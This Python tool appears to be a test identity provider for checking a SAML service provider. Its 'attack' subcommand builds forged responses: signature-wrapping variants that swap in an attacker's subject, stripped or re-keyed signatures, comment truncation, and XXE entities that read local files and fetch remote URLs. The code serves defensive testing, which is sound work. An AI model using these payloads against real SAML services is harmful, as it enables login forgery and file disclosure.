#!/usr/bin/env python3
"""A real SAML 2.0 identity provider for roster's tests, as a command line tool.

pysaml2's IdP code (`saml2.server.Server`) builds the messages and signs and
encrypts them through Debian's `xmlsec1`; lxml only rearranges signed
documents into the hostile variants of `attack`. See README.md beside this
file for every subcommand and attack kind. Run it with the virtualenv that
`scripts/install-saml-idp.sh` makes:

    /var/cache/roster-tools/saml-venv/bin/python idp.py --help

Output goes to stdout (JSON, XML or base64); on bad input the tool prints
`idp.py: <message>` to stderr and exits with status 2.
"""

import argparse
import atexit
import base64
import copy
import datetime as dt
import json
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
import urllib.parse
import warnings
import zlib
from xml.etree import ElementTree

warnings.filterwarnings("ignore")  # pysaml2 imports deprecated `cryptography` names

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.x509.oid import NameOID
from lxml import etree

# pysaml2 takes half a second to import; `keys` (once per test IdP) does without it.
if sys.argv[1:2] != ["keys"]:
    from saml2 import BINDING_HTTP_POST, BINDING_HTTP_REDIRECT, class_name, md, saml, samlp
    from saml2.config import IdPConfig
    from saml2.metadata import do_key_descriptor, sign_entity_descriptor
    from saml2.server import Server
    from saml2.sigver import pre_encrypt_assertion, pre_encryption_part, pre_signature_part

NS = {
    "samlp": "urn:oasis:names:tc:SAML:2.0:protocol",
    "saml": "urn:oasis:names:tc:SAML:2.0:assertion",
    "ds": "http://www.w3.org/2000/09/xmldsig#",
    "xenc": "http://www.w3.org/2001/04/xmlenc#",
    "md": "urn:oasis:names:tc:SAML:2.0:metadata",
}
for _prefix, _uri in NS.items():  # pysaml2 serialises through ElementTree: readable prefixes
    ElementTree.register_namespace(_prefix, _uri)
SAMLP, SAML, DS, XENC = (f"{{{NS[p]}}}" for p in ("samlp", "saml", "ds", "xenc"))
XENC11 = "http://www.w3.org/2009/xmlenc11#"
DSIG_MORE = "http://www.w3.org/2001/04/xmldsig-more#"
STATUS = "urn:oasis:names:tc:SAML:2.0:status:"

NAME_ID_FORMATS = {
    "email": "urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress",
    "unspecified": "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified",
    "persistent": "urn:oasis:names:tc:SAML:2.0:nameid-format:persistent",
    "transient": "urn:oasis:names:tc:SAML:2.0:nameid-format:transient",
}
ATTRIBUTE_NAME_FORMATS = {
    "unspecified": "urn:oasis:names:tc:SAML:2.0:attrname-format:unspecified",
    "basic": "urn:oasis:names:tc:SAML:2.0:attrname-format:basic",
    "uri": "urn:oasis:names:tc:SAML:2.0:attrname-format:uri",
    "none": None,
}
SIGNATURE_ALGS = {
    "rsa-sha1": NS["ds"] + "rsa-sha1",
    "rsa-sha256": DSIG_MORE + "rsa-sha256",
    "rsa-sha512": DSIG_MORE + "rsa-sha512",
}
DIGEST_ALGS = {"sha1": NS["ds"] + "sha1", "sha256": NS["xenc"] + "sha256", "sha512": NS["xenc"] + "sha512"}
# name -> (EncryptionMethod URI, xmlsec1 --session-key)
ENCRYPT_ALGS = {
    "aes128-cbc": (NS["xenc"] + "aes128-cbc", "aes-128"),
    "aes192-cbc": (NS["xenc"] + "aes192-cbc", "aes-192"),
    "aes256-cbc": (NS["xenc"] + "aes256-cbc", "aes-256"),
    "aes128-gcm": (XENC11 + "aes128-gcm", "aes-128"),
    "aes192-gcm": (XENC11 + "aes192-gcm", "aes-192"),
    "aes256-gcm": (XENC11 + "aes256-gcm", "aes-256"),
    "tripledes-cbc": (NS["xenc"] + "tripledes-cbc", "des-192"),
}
KEY_TRANSPORTS = {
    "rsa-oaep-mgf1p": NS["xenc"] + "rsa-oaep-mgf1p",
    "rsa-1_5": NS["xenc"] + "rsa-1_5",
    "rsa-oaep": XENC11 + "rsa-oaep",
}
OAEP_HASHES = {"sha1": (hashes.SHA1, DIGEST_ALGS["sha1"]), "sha256": (hashes.SHA256, DIGEST_ALGS["sha256"])}
STATUSES = {
    "success": (STATUS + "Success", None),
    "requester": (STATUS + "Requester", STATUS + "RequestDenied"),
    "responder": (STATUS + "Responder", STATUS + "AuthnFailed"),
}
TIME_FORMAT = "%Y-%m-%dT%H:%M:%SZ"


class UsageError(Exception):
    """Bad input: reported as `idp.py: <message>` with exit status 2."""


def die(message):
    raise UsageError(message)


def read_text(path, what):
    try:
        with open(path, encoding="utf-8") as f:
            return f.read()
    except OSError as e:
        die(f"cannot read {what} {path}: {e.strerror}")


def cert_body(pem):
    """The base64 DER of a PEM certificate, as it appears in ds:X509Certificate."""
    lines = [ln.strip() for ln in pem.strip().splitlines()]
    if not lines or not lines[0].startswith("-----BEGIN CERTIFICATE"):
        die("not a PEM certificate")
    return "".join(ln for ln in lines if ln and not ln.startswith("-----"))


def load_cert(path):
    try:
        return x509.load_pem_x509_certificate(read_text(path, "certificate").encode())
    except ValueError:
        die(f"{path} is not a PEM certificate")


def xmlsec_binary():
    found = shutil.which("xmlsec1")
    if not found:
        die("xmlsec1 is not installed: run scripts/install-saml-idp.sh")
    return found


def iso(t):
    return t.strftime(TIME_FORMAT)


def parse_time(text):
    try:
        t = dt.datetime.fromisoformat(text)
    except ValueError:
        die(f"not an ISO 8601 time: {text!r}")
    if t.tzinfo is None:
        t = t.replace(tzinfo=dt.UTC)
    return t.astimezone(dt.UTC).replace(microsecond=0)


def new_id(label="id"):
    return f"{label}-{secrets.token_hex(10)}"


def parse_xml(text):
    parser = etree.XMLParser(resolve_entities=False, no_network=True, remove_blank_text=False)
    return etree.fromstring(text.encode("utf-8") if isinstance(text, str) else text, parser)


def to_xml(root, doctype=None):
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", doctype=doctype).decode("utf-8")


def b64(text):
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def emit(args, xml):
    print(xml if args.raw else b64(xml))


# --------------------------------------------------------------------- keys


def make_keys(out, name, cn=None, days=3650, expired=False):
    """Writes OUT/NAME.key and OUT/NAME.crt; returns what `keys` prints."""
    os.makedirs(out, exist_ok=True)
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    subject = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn or f"roster test {name}")])
    now = dt.datetime.now(dt.UTC).replace(microsecond=0)
    if expired:
        not_before, not_after = now - dt.timedelta(days=30), now - dt.timedelta(days=1)
    else:
        not_before, not_after = now - dt.timedelta(days=1), now + dt.timedelta(days=days)
    cert = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(not_before)
        .not_valid_after(not_after)
        .sign(key, hashes.SHA256())
    )
    key_path = os.path.abspath(os.path.join(out, f"{name}.key"))
    cert_path = os.path.abspath(os.path.join(out, f"{name}.crt"))
    pem = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    )
    with open(os.open(key_path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600), "wb") as f:
        f.write(pem)
    with open(cert_path, "wb") as f:
        f.write(cert.public_bytes(serialization.Encoding.PEM))
    fingerprint = cert.fingerprint(hashes.SHA256()).hex().upper()
    return {
        "key": key_path,
        "cert": cert_path,
        "sha256_fingerprint": ":".join(fingerprint[i : i + 2] for i in range(0, len(fingerprint), 2)),
        "not_after": iso(not_after),
    }


def cmd_keys(args):
    print(json.dumps(make_keys(args.out, args.name, args.cn, args.days, args.expired)))


# ----------------------------------------------------------------- metadata


def cmd_metadata(args):
    certs = [cert_body(read_text(path, "certificate")) for path in args.cert]
    sso = [
        md.SingleSignOnService(binding=binding, location=args.sso_url)
        for binding in (BINDING_HTTP_REDIRECT, BINDING_HTTP_POST)
    ]
    slo = [
        md.SingleLogoutService(binding=binding, location=args.slo_url)
        for binding in (BINDING_HTTP_REDIRECT, BINDING_HTTP_POST)
        if args.slo_url
    ]
    idpsso = md.IDPSSODescriptor(
        protocol_support_enumeration=NS["samlp"],
        want_authn_requests_signed="true" if args.want_authn_requests_signed else None,
        key_descriptor=do_key_descriptor(cert=certs, use="signing"),
        single_logout_service=slo,
        name_id_format=[
            md.NameIDFormat(text=NAME_ID_FORMATS["email"]),
            md.NameIDFormat(text=NAME_ID_FORMATS["unspecified"]),
        ],
        single_sign_on_service=sso,
    )
    ed = md.EntityDescriptor(entity_id=args.entity_id, idpsso_descriptor=idpsso)
    if args.valid_until:
        ed.valid_until = iso(parse_time(args.valid_until))
    if args.cache_duration:
        ed.cache_duration = args.cache_duration
    if args.sign_key:
        if not args.sign_cert:
            die("--sign-key needs --sign-cert")
        server = make_server(args.entity_id, args.sign_key, args.sign_cert, "urn:unused", "urn:unused")
        _, xml = sign_entity_descriptor(
            ed, None, server.sec, sign_alg=SIGNATURE_ALGS[args.signature_alg], digest_alg=DIGEST_ALGS[args.digest_alg]
        )
        print(xml)
        return
    print(to_xml(parse_xml(ed.to_string())))


# ------------------------------------------------------------------ the IdP


def sp_metadata(sp_entity_id, acs_url, slo_url):
    """The SP as this IdP knows it: inline metadata for pysaml2's Server."""
    acs = "".join(
        f'<md:AssertionConsumerService Binding="{b}" Location="{acs_url}" index="{i}"/>'
        for i, b in enumerate((BINDING_HTTP_POST, BINDING_HTTP_REDIRECT))
    )
    slo = "".join(
        f'<md:SingleLogoutService Binding="{b}" Location="{slo_url}"/>'
        for b in (BINDING_HTTP_REDIRECT, BINDING_HTTP_POST)
    )
    ed = etree.Element(f"{{{NS['md']}}}EntityDescriptor", nsmap={"md": NS["md"]}, entityID=sp_entity_id)
    body = f'<md:SPSSODescriptor xmlns:md="{NS["md"]}" protocolSupportEnumeration="{NS["samlp"]}">{slo}{acs}</md:SPSSODescriptor>'
    ed.append(etree.fromstring(body))
    return etree.tostring(ed).decode()


def make_server(idp_entity_id, key, cert, sp_entity_id, acs_url, slo_url=None):
    read_text(key, "key")
    load_cert(cert)
    conf = {
        "entityid": idp_entity_id,
        "xmlsec_binary": xmlsec_binary(),
        "key_file": key,
        "cert_file": cert,
        "metadata": {"inline": [sp_metadata(sp_entity_id, acs_url, slo_url or acs_url)]},
        "service": {
            "idp": {
                "endpoints": {"single_sign_on_service": [(idp_entity_id, BINDING_HTTP_REDIRECT)]},
                "policy": {"default": {"attribute_restrictions": None}},
            }
        },
    }
    cfg = IdPConfig()
    cfg.load(conf)
    return Server(config=cfg)


class Idp:
    """One signing identity (key and certificate) and the options of a response."""

    def __init__(self, args, key=None, cert=None):
        self.args = args
        self.key = key or args.key
        self.cert = cert or args.cert
        if not self.key or not self.cert:
            die("--key and --cert are required")
        self.server = make_server(args.idp_entity_id, self.key, self.cert, args.sp_entity_id, args.acs_url)
        self.sign_alg = SIGNATURE_ALGS[args.signature_alg]
        self.digest_alg = DIGEST_ALGS[args.digest_alg]

    def now(self):
        if self.args.now:
            return parse_time(self.args.now)
        return dt.datetime.now(dt.UTC).replace(microsecond=0)

    def unsigned_response(self, name_id=None):
        """A samlp.Response from pysaml2's create_authn_response, then given
        this tool's exact times, attributes, session index and status."""
        a = self.args
        nid = saml.NameID(format=NAME_ID_FORMATS[a.name_id_format], text=name_id or a.name_id)
        resp = self.server.create_authn_response(
            identity={},
            in_response_to=a.in_response_to,
            destination=a.destination or a.acs_url,
            sp_entity_id=a.sp_entity_id,
            name_id=nid,
            authn={"class_ref": a.authn_context},
            sign_assertion=False,
            sign_response=False,
            encrypt_assertion=False,
        )
        if not isinstance(resp, samlp.Response):
            die(f"pysaml2 did not build a response: {resp}")
        now = self.now()
        at = lambda seconds: iso(now + dt.timedelta(seconds=seconds))
        resp.issue_instant = iso(now)
        assertion = resp.assertion
        assertion.issue_instant = iso(now)
        assertion.conditions.not_before = at(a.not_before_offset)
        assertion.conditions.not_on_or_after = at(a.not_on_or_after_offset)
        for sc in assertion.subject.subject_confirmation:
            sc.subject_confirmation_data.not_on_or_after = at(a.not_on_or_after_offset)
            if a.recipient:
                sc.subject_confirmation_data.recipient = a.recipient
        statement = assertion.authn_statement[0]
        statement.authn_instant = iso(now)
        statement.session_index = a.session_index or new_id("session")
        if a.session_not_on_or_after_offset is not None:
            statement.session_not_on_or_after = at(a.session_not_on_or_after_offset)
        attributes = {}
        for item in a.attribute:
            name, sep, value = item.partition("=")
            if not sep or not name:
                die(f"--attribute wants NAME=VALUE, got {item!r}")
            attributes.setdefault(name, []).append(value)
        name_format = ATTRIBUTE_NAME_FORMATS[a.attribute_name_format]
        assertion.attribute_statement = (
            [
                saml.AttributeStatement(
                    attribute=[
                        saml.Attribute(
                            name=name,
                            name_format=name_format,
                            attribute_value=[saml.AttributeValue(text=v) for v in values],
                        )
                        for name, values in attributes.items()
                    ]
                )
            ]
            if attributes
            else []
        )
        code, sub = STATUSES[a.status]
        if sub is not None:
            resp.assertion = None
            resp.status = samlp.Status(
                status_code=samlp.StatusCode(value=code, status_code=samlp.StatusCode(value=sub)),
                status_message=samlp.StatusMessage(text=a.status_message or "authentication failed"),
            )
        return resp

    def sign_template(self, ident, identifier, uri=None):
        sig = pre_signature_part(
            ident, self.server.sec.my_cert, identifier, sign_alg=self.sign_alg, digest_alg=self.digest_alg
        )
        if uri is not None:
            sig.signed_info.reference.uri = uri
        return sig

    def build(
        self,
        sign,
        encrypt_cert=None,
        name_id=None,
        before_sign=None,
        before_encrypt=None,
        reference_uri=None,
        before_sign_xml=None,
    ):
        """The signed (and maybe encrypted) response XML, as pysaml2's
        Entity._response would make it: the assertion is signed, then
        encrypted, then the response is signed."""
        resp = self.unsigned_response(name_id)
        if before_sign:
            before_sign(resp)
        sign_assertion = sign in ("assertion", "both") and resp.assertion is not None
        if sign_assertion:
            resp.assertion.signature = self.sign_template(resp.assertion.id, 2, reference_uri)
            assertion_id = resp.assertion.id
        encrypt = encrypt_cert and resp.assertion is not None
        if encrypt:
            tag = resp.assertion._to_element_tree().tag
            resp = pre_encrypt_assertion(resp)
            xml = resp.get_xml_string_with_self_contained_assertion_within_encrypted_assertion(tag)
        else:
            xml = resp.to_string().decode("utf-8")
        if before_sign_xml:
            xml = before_sign_xml(xml)
        if sign_assertion:
            xml = self.server.sec.sign_statement(xml, class_name(saml.Assertion()), node_id=assertion_id)
        if before_encrypt:
            xml = self_contained(before_encrypt(xml))
        if encrypt:
            xml = self.encrypt(xml, encrypt_cert)
        if sign in ("response", "both"):
            xml = self.sign_response(xml)
        return to_xml(parse_xml(xml))

    def sign_response(self, xml):
        """Adds a Signature template after the Response's Issuer and signs it."""
        root = parse_xml(xml)
        template = parse_xml(self.sign_template(root.get("ID"), 1).to_string())
        issuer = root.find(f"{SAML}Issuer")
        root.insert(0 if issuer is None else root.index(issuer) + 1, template)
        return self.server.sec.sign_statement(to_xml(root), class_name(samlp.Response()), node_id=root.get("ID"))

    def encrypt(self, xml, cert_path):
        """Encrypts the one assertion in EncryptedAssertion with xmlsec1 for
        the holder of cert_path (the SP)."""
        a = self.args
        msg_alg, session_key = ENCRYPT_ALGS[a.encrypt_alg]
        transport = KEY_TRANSPORTS[a.key_transport]
        cert_pem = read_text(cert_path, "encryption certificate")
        if a.key_transport != "rsa-oaep":
            template = pre_encryption_part(msg_enc=msg_alg, key_enc=transport, encrypt_cert=cert_body(cert_pem))
            xml = self.server.sec.encrypt_assertion(xml, cert_path, template, key_type=session_key)
        else:
            xml = encrypt_rsa_oaep(xml, load_cert(cert_path), cert_body(cert_pem), msg_alg, session_key, a)
        if a.encrypted_key_placement == "sibling":
            root = parse_xml(xml)
            keys_beside(root)
            xml = to_xml(root)
        return xml

    def encrypt_bytes(self, plaintext, cert_path):
        """An EncryptedData (element) of any bytes for the holder of
        cert_path, made by xmlsec1 from pysaml2's template as `encrypt`
        does: what an attacker sends, since the SP's certificate is public."""
        a = self.args
        if a.key_transport == "rsa-oaep":
            die("attacks on the plaintext use --key-transport rsa-oaep-mgf1p or rsa-1_5")
        msg_alg, session_key = ENCRYPT_ALGS[a.encrypt_alg]
        template = pre_encryption_part(
            msg_enc=msg_alg, key_enc=KEY_TRANSPORTS[a.key_transport], encrypt_cert=cert_body(read_text(cert_path, "certificate"))
        )
        with tempfile.TemporaryDirectory() as tmp:
            data, tmpl = os.path.join(tmp, "plain.bin"), os.path.join(tmp, "template.xml")
            with open(data, "wb") as f:
                f.write(plaintext)
            with open(tmpl, "w", encoding="utf-8") as f:
                f.write(str(template))
            command = [xmlsec_binary(), "--encrypt", "--pubkey-cert-pem", cert_path, "--session-key", session_key]
            result = subprocess.run([*command, "--binary-data", data, tmpl], capture_output=True, check=False)
        if result.returncode != 0:
            die(f"xmlsec1 --encrypt failed: {result.stderr.decode(errors='replace')}")
        return parse_xml(result.stdout)


def self_contained(xml):
    """The document with the assertion to encrypt declaring its own prefix
    again, as pysaml2 makes it: lxml keeps one declaration, on the Response,
    and the plaintext of an encrypted assertion is read on its own."""
    root = parse_xml(xml)
    inner = root.find(f"{SAML}EncryptedAssertion/{SAML}Assertion")
    if inner is None or not inner.prefix:
        return xml
    tag = f"<{inner.prefix}:Assertion "
    start = xml.index(tag, xml.index(f"{root.find(f'{SAML}EncryptedAssertion').prefix}:EncryptedAssertion")) + len(tag)
    declaration = f'xmlns:{inner.prefix}="{NS["saml"]}"'
    if declaration in xml[start : xml.index(">", start)]:
        return xml
    return f"{xml[:start]}{declaration} {xml[start:]}"


def keys_beside(root):
    """Moves each EncryptedKey out of its EncryptedData's KeyInfo to beside
    the EncryptedData, named there by a RetrievalMethod (Shibboleth's shape)."""
    for data in list(root.iter(f"{XENC}EncryptedData")):
        info = data.find(f"{DS}KeyInfo")
        for key in info.findall(f"{XENC}EncryptedKey"):
            info.remove(key)
            data.getparent().append(key)
            etree.SubElement(info, f"{DS}RetrievalMethod", URI="#" + key.get("Id"), Type=NS["xenc"] + "EncryptedKey")


def encrypt_rsa_oaep(xml, cert, cert_b64, msg_alg, session_key, a):
    """xmlenc11#rsa-oaep key transport, which xmlsec1 1.2 lacks: xmlsec1
    encrypts the assertion with a session key we choose, and the session key
    is wrapped here with RSA-OAEP (the digest and MGF named in the XML)."""
    digest_cls, digest_uri = OAEP_HASHES[a.oaep_digest]
    mgf_cls, _ = OAEP_HASHES[a.oaep_mgf]
    key_bytes = secrets.token_bytes(int(session_key.split("-")[1]) // 8)
    template = (
        f'<xenc:EncryptedData xmlns:xenc="{NS["xenc"]}" xmlns:ds="{NS["ds"]}" Id="{new_id("ED")}" '
        f'Type="{NS["xenc"]}Element"><xenc:EncryptionMethod Algorithm="{msg_alg}"/>'
        "<ds:KeyInfo><ds:KeyName>session</ds:KeyName></ds:KeyInfo>"
        "<xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedData>"
    ).encode()
    with tempfile.TemporaryDirectory() as tmp:
        paths = {n: os.path.join(tmp, n) for n in ("key.bin", "data.xml", "template.xml")}
        for name, content in (("key.bin", key_bytes), ("data.xml", xml.encode()), ("template.xml", template)):
            with open(paths[name], "wb") as f:
                f.write(content)
        result = subprocess.run(
            [
                xmlsec_binary(),
                "--encrypt",
                "--aeskey:session",
                paths["key.bin"],
                "--xml-data",
                paths["data.xml"],
                "--node-xpath",
                "/*[local-name()='Response']/*[local-name()='EncryptedAssertion']/*[local-name()='Assertion']",
                paths["template.xml"],
            ],
            capture_output=True,
            check=False,
        )
    if result.returncode != 0:
        die(f"xmlsec1 --encrypt failed: {result.stderr.decode(errors='replace')}")
    root = parse_xml(result.stdout)
    wrapped = cert.public_key().encrypt(
        key_bytes, padding.OAEP(mgf=padding.MGF1(mgf_cls()), algorithm=digest_cls(), label=None)
    )
    key_info = root.find(f".//{XENC}EncryptedData/{DS}KeyInfo")
    for child in list(key_info):
        key_info.remove(child)
    mgf = "" if a.oaep_mgf == "sha1" else f'<xenc11:MGF xmlns:xenc11="{XENC11}" Algorithm="{XENC11}mgf1{a.oaep_mgf}"/>'
    key_info.append(
        parse_xml(
            f'<xenc:EncryptedKey xmlns:xenc="{NS["xenc"]}" xmlns:ds="{NS["ds"]}" Id="{new_id("EK")}">'
            f'<xenc:EncryptionMethod Algorithm="{XENC11}rsa-oaep"><ds:DigestMethod Algorithm="{digest_uri}"/>{mgf}'
            f"</xenc:EncryptionMethod><ds:KeyInfo><ds:X509Data><ds:X509Certificate>{cert_b64}</ds:X509Certificate>"
            f"</ds:X509Data></ds:KeyInfo><xenc:CipherData><xenc:CipherValue>{base64.b64encode(wrapped).decode()}"
            f"</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey>"
        )
    )
    return to_xml(root)


def cmd_response(args):
    sign = args.sign or "assertion"
    emit(args, Idp(args).build(sign, encrypt_cert=args.encrypt_cert))


# ------------------------------------------------------------------ attacks


def assertions(root):
    return root.findall(f"{SAML}Assertion")


def signed_assertion(root):
    for a in assertions(root):
        if a.find(f"{DS}Signature") is not None:
            return a
    die("internal: no signed assertion")


def name_id_of(elem):
    return elem.find(f"{SAML}Subject/{SAML}NameID")


def evil_copy(assertion, evil_name, keep_id=False):
    """The attacker's assertion: a copy of the signed one with another
    subject, without a signature (and with a new ID unless keep_id)."""
    evil = copy.deepcopy(assertion)
    for sig in evil.findall(f"{DS}Signature"):
        evil.remove(sig)
    if not keep_id:
        evil.set("ID", new_id("evil"))
    name_id_of(evil).text = evil_name
    return evil


def insert_after_issuer(parent, child):
    issuer = parent.find(f"{SAML}Issuer")
    parent.insert(0 if issuer is None else parent.index(issuer) + 1, child)


def ds_object(*children):
    obj = etree.Element(f"{DS}Object", nsmap={"ds": NS["ds"]})
    for c in children:
        obj.append(c)
    return obj


def take_signature(elem):
    sig = elem.find(f"{DS}Signature")
    elem.remove(sig)
    return sig


def xsw_assertion(kind, evil_name):
    """The wrapping attacks on an assertion signature (the response unsigned)."""

    def tamper(xml):
        root = parse_xml(xml)
        signed = signed_assertion(root)
        evil = evil_copy(signed, evil_name, keep_id=kind == "duplicate-id")
        if kind in ("wrap-assertion-before", "duplicate-id"):
            signed.addprevious(evil)
        elif kind == "wrap-assertion-after":
            signed.addnext(evil)
        elif kind == "wrap-inside-signed":
            # Inside the signed assertion's ds:Signature, which the
            # enveloped-signature transform leaves out of the digest.
            signed.find(f"{DS}Signature").append(ds_object(evil))
        elif kind == "wrap-signed-inside-evil":  # XSW4
            signed.addprevious(evil)
            evil.append(signed)
        elif kind == "wrap-signature-moved":  # XSW5
            sig = take_signature(signed)
            insert_after_issuer(evil, sig)
            signed.addprevious(evil)
            root.append(signed)
        elif kind == "wrap-signed-in-evil-signature":  # XSW6
            sig = take_signature(signed)
            signed.addprevious(evil)
            insert_after_issuer(evil, sig)
            sig.append(signed)
        elif kind == "wrap-signed-in-object":  # XSW8
            sig = take_signature(signed)
            signed.addprevious(evil)
            insert_after_issuer(evil, sig)
            sig.append(ds_object(signed))
        elif kind == "wrap-signed-in-extensions":  # XSW7
            signed.addprevious(evil)
            ext = etree.Element(f"{SAMLP}Extensions")
            insert_after_issuer(root, ext)
            ext.append(signed)
        else:
            die(f"internal: {kind}")
        return to_xml(root)

    return tamper


def xsw_response(kind, evil_name):
    """Attacks on a response signature (the assertion unsigned)."""

    def tamper(xml):
        root = parse_xml(xml)
        original = root
        if kind == "response-signature-appended":
            original.append(evil_copy(assertions(original)[0], evil_name))
            return to_xml(original)
        if kind == "response-signature-only-wraps":
            original.find(f"{DS}Signature").append(ds_object(evil_copy(assertions(original)[0], evil_name)))
            return to_xml(original)
        # XSW1 / XSW2: an evil response carries the original's signature.
        evil = copy.deepcopy(original)
        evil.set("ID", new_id("evil"))
        for a in assertions(evil):
            name_id_of(a).text = evil_name
            a.set("ID", new_id("evil"))
        evil_sig = evil.find(f"{DS}Signature")
        original.remove(original.find(f"{DS}Signature"))
        if kind == "wrap-response-in-signature":
            evil_sig.append(ds_object(original))
        elif kind == "wrap-response-detached":
            evil_sig.addprevious(original)
        else:
            die(f"internal: {kind}")
        return to_xml(evil)

    return tamper


def on_tree(fn, doctype=None):
    """A tamper step that edits the parsed document (and may add a DOCTYPE)."""

    def tamper(xml):
        root = parse_xml(xml)
        fn(root)
        name = f"{root.prefix}:Response" if root.prefix else "Response"
        return to_xml(root, doctype=doctype.replace("{root}", name) if doctype else None)

    return tamper


def cmd_attack(args):
    kind = args.kind
    spec = ATTACKS[kind]
    allowed = spec["sign"]
    sign = args.sign or allowed[0]
    if sign not in allowed:
        die(f"attack {kind} signs {' or '.join(allowed)}, not {sign}")
    if args.encrypt_cert and not spec.get("encrypt"):
        die(f"attack {kind} does not support --encrypt-cert")
    if spec.get("encrypt") == "required" and not args.encrypt_cert:
        die(f"attack {kind} needs --encrypt-cert")
    if args.status != "success":
        die("attacks need --status success")
    if kind == "altered-byte" and args.encrypt_cert and sign == "response":
        die("altered-byte with --encrypt-cert needs the assertion signed (--sign assertion or both)")
    idp = Idp(args)
    if kind in ENCRYPTED_ATTACKS:
        emit(args, encrypted_attack(args, idp, kind, sign))
        return
    evil = args.evil_name_id
    suffix = args.evil_suffix
    name = args.name_id
    build = {"sign": sign, "encrypt_cert": args.encrypt_cert}
    tamper = None  # applied to the final document (or, encrypted, before encryption)

    if kind in ASSERTION_XSW:
        tamper = xsw_assertion(kind, evil)
    elif kind in RESPONSE_XSW:
        tamper = xsw_response(kind, evil)
    elif kind == "wrap-in-advice":

        def advice(resp):
            inner = saml.assertion_from_string(resp.assertion.to_string())
            inner.id = new_id("evil")
            inner.subject.name_id.text = evil
            inner.authn_statement = []
            resp.assertion.advice = saml.Advice(assertion=[inner])

        build["before_sign"] = advice
    elif kind == "wrap-beside-encrypted":

        def beside(xml):
            root = parse_xml(xml)
            evil_assertion = evil_copy(idp_plain_assertion, evil)
            root.find(f"{SAML}EncryptedAssertion").addprevious(evil_assertion)
            return to_xml(root)

        plain = parse_xml(idp.build("assertion"))
        idp_plain_assertion = assertions(plain)[0]
        tamper = beside
    elif kind == "two-assertions":
        second = parse_xml(idp.build("assertion", name_id=evil))

        def two(xml):
            root = parse_xml(xml)
            signed_assertion(root).addnext(assertions(second)[0])
            out = to_xml(root)
            return idp.sign_response(out) if sign == "both" else out

        first = idp.build("assertion")
        emit(args, to_xml(parse_xml(two(first))))
        return
    elif kind == "comment-in-nameid":
        build["name_id"] = name + suffix

        def comment(root):
            nid = name_id_of(root.find(f".//{SAML}Assertion"))
            nid.text = name
            c = etree.Comment("")
            c.tail = suffix
            nid.append(c)

        tamper = on_tree(comment)
    elif kind == "stripped-signature":

        def strip(root):
            for sig in root.iter(f"{DS}Signature"):
                sig.getparent().remove(sig)

        tamper = on_tree(strip)
    elif kind == "altered-byte":

        def alter(root):
            nid = name_id_of(root.find(f".//{SAML}Assertion"))
            nid.text = ("b" if nid.text[0] == "a" else "a") + nid.text[1:]

        tamper = on_tree(alter)
    elif kind == "other-key":
        other_key, other_cert = args.other_key, args.other_cert
        if bool(other_key) != bool(other_cert):
            die("--other-key and --other-cert go together")
        if not other_key:
            tmp = tempfile.mkdtemp(prefix="idp-other-")
            atexit.register(shutil.rmtree, tmp, ignore_errors=True)
            other = make_keys(tmp, "other", cn="attacker")
            other_key, other_cert = other["key"], other["cert"]
        idp = Idp(args, key=other_key, cert=other_cert)
    elif kind == "doctype":
        build["name_id"] = name + suffix

        def entity(root):
            nid = name_id_of(root.find(f".//{SAML}Assertion"))
            nid.text = name
            nid.append(etree.Entity("x"))

        tamper = on_tree(entity, f'<!DOCTYPE {{root}} [<!ENTITY x "{suffix}">]>')
    elif kind == "external-entity":

        def external(root):
            nid = name_id_of(root.find(f".//{SAML}Assertion"))
            nid.append(etree.Entity("file"))
            nid.append(etree.Entity("net"))

        tamper = on_tree(
            external,
            f'<!DOCTYPE {{root}} [<!ENTITY file SYSTEM "{args.entity_file}">'
            f'<!ENTITY net SYSTEM "{args.entity_url}"><!ENTITY % remote SYSTEM "{args.entity_url}dtd"> %remote;]>',
        )
    elif kind == "sha1":
        idp.sign_alg, idp.digest_alg = SIGNATURE_ALGS["rsa-sha1"], DIGEST_ALGS["sha1"]
    elif kind == "empty-reference-uri":
        build["reference_uri"] = ""
    else:
        die(f"internal: {kind}")

    if tamper and args.encrypt_cert and kind != "wrap-beside-encrypted":
        # Encrypted, the attacker's change is to the assertion inside the
        # EncryptedAssertion (a stripped signature: inside and outside).
        build["before_encrypt"] = tamper
        if kind != "stripped-signature":
            tamper = None
    xml = idp.build(**build)
    if tamper:
        xml = tamper(xml)
    emit(args, xml)


# Attacks on encryption (README.md): the response is left unsigned unless
# noted, so that the SP's answer comes from the encrypted part.
ENCRYPTED_ATTACKS = (
    "tampered-ciphertext",
    "tampered-key",
    "two-encrypted",
    "encrypted-in-advice",
    "retrieval-external",
    "cipher-reference",
    "encrypted-doctype",
    "encrypted-not-assertion",
    "encrypted-undeclared-prefix",
    "encrypted-wrap",
    "encrypted-signature-moved",
)
EA = f"{SAML}EncryptedAssertion"


def flip_cipher_value(root, where):
    """Flips one bit in the middle of the CipherValue at `where`."""
    value = root.find(where)
    raw = bytearray(base64.b64decode(value.text))
    raw[len(raw) // 2] ^= 1
    value.text = base64.b64encode(bytes(raw)).decode("ascii")


def encrypted_attack(args, idp, kind, sign):
    """The XML of an attack on an encrypted assertion (ENCRYPTED_ATTACKS)."""
    cert, evil = args.encrypt_cert, args.evil_name_id
    encrypted = lambda **kw: parse_xml(idp.build("assertion", encrypt_cert=cert, **kw))
    root = None
    if kind in ("tampered-ciphertext", "tampered-key"):
        root = encrypted()
        holder = "EncryptedData" if kind == "tampered-ciphertext" else "EncryptedKey"
        flip_cipher_value(root, f".//{XENC}{holder}/{XENC}CipherData/{XENC}CipherValue")
    elif kind == "two-encrypted":
        root = encrypted()
        root.find(EA).addnext(encrypted(name_id=evil).find(EA))
    elif kind == "encrypted-in-advice":
